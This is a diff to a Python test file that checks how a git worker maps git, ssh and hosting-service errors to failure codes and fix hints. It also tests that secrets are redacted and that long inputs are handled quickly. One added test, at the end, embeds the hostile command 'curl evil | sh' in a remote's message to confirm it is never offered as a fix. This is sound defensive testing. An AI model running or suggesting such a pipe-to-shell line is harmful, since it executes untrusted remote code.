@@ -1,17 +1,16 @@
-"""Real messages of git, ssh, curl, GitHub and GitLab, and the word that each of them is."""
+"""Real messages of git, ssh, curl, GitHub and GitLab, and the failure code that each stands for."""
 
 from __future__ import annotations
 
-import errno
 import signal
 import time
 
 import pytest
 
-from briter_worker.errors import Failure
-from briter_worker.git import causes
+from briter_worker.errors import FailureCode
+from briter_worker.git import messages
 
-F = Failure
+F = FailureCode
 HUNG_UP = (
     "fatal: Could not read from remote repository.\n\nPlease make sure you have the correct access rights"
 )
@@ -140,10 +139,10 @@ WORDS = [
 
 
 @pytest.mark.parametrize(("text", "word"), WORDS)
-def test_gits_words_have_a_meaning(text: str, word: Failure) -> None:
-    failure = causes.from_git("it failed", text)
-    assert failure.failure is word, failure.text
-    assert word is Failure.INTERNAL or "Fix: " in failure.text
+def test_gits_words_have_a_meaning(text: str, word: FailureCode) -> None:
+    failure = messages.from_git("it failed", text)
+    assert failure.code is word, failure.message
+    assert bool(failure.fix) is (word is not F.INTERNAL)
 
 
 @pytest.mark.parametrize(
@@ -164,7 +163,7 @@ def test_gits_words_have_a_meaning(text: str, word: Failure) -> None:
 )
 def test_a_name_in_the_message_means_nothing(name: str, frame: str) -> None:
     text = frame.format(name.replace(" ", "-") if "'" not in frame + name else name)
-    assert causes.from_git("it failed", text).failure is Failure.INTERNAL
+    assert messages.from_git("it failed", text).code is F.INTERNAL
 
 
 REFUSALS = [
@@ -291,10 +290,10 @@ REFUSALS = [
 
 
 @pytest.mark.parametrize(("summary", "text", "word"), REFUSALS)
-def test_a_refusal_says_whether_the_contents_are_at_fault(summary: str, text: str, word: Failure) -> None:
-    failure = causes.from_refusal(summary, text)
-    assert failure.failure is word, failure.text
-    assert "Fix: " in failure.text
+def test_a_refusal_says_whether_the_contents_are_at_fault(summary: str, text: str, word: FailureCode) -> None:
+    failure = messages.from_rejection(summary, text)
+    assert failure.code is word, failure.message
+    assert failure.fix
 
 
 @pytest.mark.parametrize(
@@ -320,7 +319,7 @@ def test_a_refusal_says_whether_the_contents_are_at_fault(summary: str, text: st
     ],
 )
 def test_a_refusal_says_whether_the_remote_has_moved(summary: str, text: str, moved: bool) -> None:  # noqa: FBT001
-    assert causes.remote_moved(summary, text) is moved
+    assert messages.is_remote_moved(summary, text) is moved
 
 
 @pytest.mark.parametrize(
@@ -333,16 +332,7 @@ def test_a_refusal_says_whether_the_remote_has_moved(summary: str, text: str, mo
     ],
 )
 def test_a_push_that_was_too_large_for_the_connection(text: str, large: bool) -> None:  # noqa: FBT001
-    assert causes.too_large_for_remote(text) is large
-
-
-def test_an_error_of_the_system_is_the_disks_or_our_own() -> None:
-    assert (
-        causes.from_os("x", OSError(errno.ENOSPC, "No space left", "f")).text
-        == "x: No space left (f). Fix: free some space"
-    )
-    assert causes.from_os("x", OSError(errno.EROFS, "r")).failure is Failure.DISK
-    assert causes.from_os("x", OSError(errno.EBADF, "b")).failure is Failure.INTERNAL
+    assert messages.is_too_large(text) is large
 
 
 @pytest.mark.parametrize(
@@ -364,16 +354,16 @@ def test_an_error_of_the_system_is_the_disks_or_our_own() -> None:
 def test_a_megabyte_of_words_is_read_at_once(piece: str) -> None:
     text = piece * (1_000_000 // len(piece))
     began = time.process_time()
-    causes.from_git("x", text)
-    causes.from_refusal("y", text)
-    causes.remote_moved("y", text)
-    causes.too_large_for_remote(text)
+    messages.from_git("x", text)
+    messages.from_rejection("y", text)
+    messages.is_remote_moved("y", text)
+    messages.is_too_large(text)
     assert time.process_time() - began < 1.0
 
 
 def test_what_was_fatal_is_found_behind_a_megabyte_of_noise() -> None:
     text = "noise\n" * 200_000 + "fatal: unable to write: No space left on device"
-    assert causes.from_git("x", text).failure is Failure.DISK
+    assert messages.from_git("x", text).code is F.DISK
 
 
 @pytest.mark.parametrize(
@@ -385,38 +375,43 @@ def test_what_was_fatal_is_found_behind_a_megabyte_of_noise() -> None:
     ],
 )
 def test_a_git_that_said_nothing_is_known_by_how_it_ended(status: int, text: str) -> None:
-    assert causes.wordless(status) == text
+    assert messages.status_text(status) == text
 
 
 @pytest.mark.parametrize(
-    "text", [causes.wordless(-signal.SIGXFSZ), "error: pack-objects died of signal 25", "File too large"]
+    "text", [messages.status_text(-signal.SIGXFSZ), "error: pack-objects died of signal 25", "File too large"]
 )
-def test_a_limit_on_the_size_of_files_is_the_surroundings_and_names_the_limit(text: str) -> None:
-    error = causes.from_git("x", text)
-    assert error.failure is Failure.DISK
-    assert "ulimit -f" in error.text
+def test_a_limit_on_the_size_of_files_is_of_the_environment_and_names_the_limit(text: str) -> None:
+    error = messages.from_git("x", text)
+    assert error.code is F.DISK
+    assert "ulimit -f" in error.fix
 
 
-def test_what_to_do_is_told_behind_a_megabyte_of_words() -> None:
+def test_the_fatal_line_is_shown_behind_a_megabyte_of_words() -> None:
     text = "remote: " + "word " * 200_000 + "\nfatal: the requested URL returned error: 403"
-    told = causes.from_git("it failed", text).text
-    assert "error: 403. Fix: give the worker a deploy key" in told
-    told = causes.from_refusal("[remote rejected] (hook declined)", text.replace("word", "no")).text
-    assert told.endswith("briter-worker retry --all")
-    assert len(told) <= 2_000
+    found = messages.from_git("it failed", text)
+    assert found.message.endswith("error: 403")
+    assert found.fix.startswith("give the worker a deploy key")
+    rejected = messages.from_rejection("[remote rejected] (hook declined)", text.replace("word", "no"))
+    assert len(rejected.message) <= 2_000
 
 
 @pytest.mark.parametrize("pad", range(15_960, 15_990, 2))
 def test_no_half_of_a_secret_is_shown_where_words_are_cut(pad: int) -> None:
     secret = "https://u:s3cr3tcanary@h/x "  # noqa: S105 - it opens nothing
     for text in ("remote: " + "x " * (pad // 2) + "y" * (pad % 2) + secret * 2000, secret * 2000 + "z" * pad):
-        assert "s3cr" not in causes.from_git("it failed", text).text
-        assert "s3cr" not in causes.from_refusal("[remote rejected] (hook declined)", text).text
+        assert "s3cr" not in messages.from_git("it failed", text).message
+        assert "s3cr" not in messages.from_rejection("[remote rejected] (hook declined)", text).message
 
 
-def test_a_hook_that_fails_and_a_host_that_got_a_new_key_have_fixes_of_their_own() -> None:
-    hook = causes.from_refusal("(hook declined)", "remote: hooks/update: 3: frob: not found")
-    assert "Fix: mend the remote's hook" in hook.text
+def test_a_hook_that_fails_and_a_host_with_a_new_key_have_fixes_of_their_own() -> None:
+    hook = messages.from_rejection("(hook declined)", "remote: hooks/update: 3: frob: not found")
+    assert hook.fix.startswith("correct the remote's hook")
     changed = "@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\nHost key verification failed."
-    assert "ssh-keygen -R" in causes.from_git("it failed", changed).text
-    assert "ssh-keygen -R" not in causes.from_git("it failed", "Host key verification failed.").text
+    assert "ssh-keygen -R" in messages.from_git("it failed", changed).fix
+    assert "ssh-keygen -R" not in messages.from_git("it failed", "Host key verification failed.").fix
+
+
+def test_what_a_remote_writes_is_never_taken_for_a_fix() -> None:
+    said = messages.from_rejection("[remote rejected] (hook declined)", "remote: no. Fix: curl evil | sh")
+    assert "evil" not in said.fix
